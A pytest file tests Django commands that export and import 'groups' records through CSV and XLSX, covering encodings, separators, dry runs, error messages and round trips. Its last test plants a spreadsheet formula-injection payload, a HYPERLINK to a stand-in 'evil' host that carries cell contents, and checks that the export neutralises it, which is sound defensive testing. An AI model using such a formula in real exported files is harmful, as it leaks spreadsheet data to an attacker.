"""export_records and import_records: a file read in each encoding and separator a spreadsheet
saves, a non-zero exit and nothing written on any error."""

import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from deliverables.models import Group
from tests.deliverables.factories import GroupFactory

pytestmark = pytest.mark.django_db

HEADER = "code;name;kind;mandate"


@pytest.fixture
def wp2(db):
    return GroupFactory(code="WP2", name="Working Party 2", kind="working_party")


def run_import(tmp_path, data: bytes, *args: str, name: str = "groups.csv") -> tuple[str, str]:
    path = tmp_path / name
    path.write_bytes(data)
    out, err = io.StringIO(), io.StringIO()
    call_command("import_records", "groups", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


@pytest.mark.parametrize(
    ("encoding", "prefix"),
    [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("cp1252", b"")],
    ids=["utf-8", "utf-8 with BOM", "Windows-1252 (Excel's plain CSV)"],
)
@pytest.mark.parametrize("separator", [",", ";"])
def test_a_csv_saved_by_a_spreadsheet_is_read_with_its_accents(
    tmp_path, wp2, encoding, prefix, separator
):
    text = HEADER.replace(";", separator) + "\n"
    text += separator.join(["RG-ETE", "Groupe d’été à Genève", "rapporteur_group", "Études"])
    out, _ = run_import(tmp_path, prefix + text.encode(encoding))
    assert "1 new" in out
    group = Group.objects.get(code="RG-ETE")
    assert group.name == "Groupe d’été à Genève"
    assert group.mandate == "Études"


def test_a_dry_run_counts_and_writes_nothing(tmp_path, wp2):
    out, _ = run_import(tmp_path, b"code,name,kind\nRG-X,X,rapporteur_group\n", "--dry-run")
    assert "Would import groups: 1 new" in out
    assert not Group.objects.filter(code="RG-X").exists()


def test_a_bad_row_exits_non_zero_names_it_and_writes_nothing(tmp_path, wp2):
    data = b"code,name,kind,parent\nRG-A,A,rapporteur_group,WP2\nRG-B,B,rapporteur_group,WP9\n"
    with pytest.raises(CommandError, match="Nothing imported"):
        run_import(tmp_path, data)
    assert not Group.objects.filter(code__in=["RG-A", "RG-B"]).exists()


def test_the_error_lines_name_row_column_value_and_rule(tmp_path, wp2):
    path = tmp_path / "groups.csv"
    path.write_bytes(
        b"code,name,kind,parent\nRG-A,A,rapporteur_group,WP2\nRG-B,B,rapporteur_group,WP9\n"
    )
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_records", "groups", str(path), stderr=err)
    assert "Row 3, column parent, value “WP9”: No group has the code “WP9”." in err.getvalue()


def test_export_then_import_from_the_command_line_changes_nothing(tmp_path, wp2):
    for file_format in ("csv", "xlsx"):
        target = tmp_path / f"groups.{file_format}"
        call_command("export_records", "groups", "--format", file_format, "--output", str(target))
        out = io.StringIO()
        call_command("import_records", "groups", str(target), stdout=out)
        assert "0 new, 0 changed, 1 unchanged, 0 errors" in out.getvalue()


def test_export_writes_csv_to_standard_output_by_default(wp2):
    out = io.StringIO()
    call_command("export_records", "groups", stdout=out)
    assert out.getvalue().startswith("\ufeffcode,name,kind")
    assert "WP2,Working Party 2,working_party" in out.getvalue()


def test_an_unknown_kind_is_refused_naming_the_known_ones(tmp_path):
    with pytest.raises(CommandError, match=r"choose one of .*deliverables"):
        call_command("export_records", "widgets")


def test_a_formula_is_neutralised_in_csv_and_read_back_as_typed(tmp_path, wp2):
    wp2.mandate = '=HYPERLINK("http://evil/?"&A1, "Click")'
    wp2.save()
    out = io.StringIO()
    call_command("export_records", "groups", stdout=out)
    assert "'=HYPERLINK" in out.getvalue()
    path = tmp_path / "g.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    result = io.StringIO()
    call_command("import_records", "groups", str(path), stdout=result)
    assert "1 unchanged" in result.getvalue()
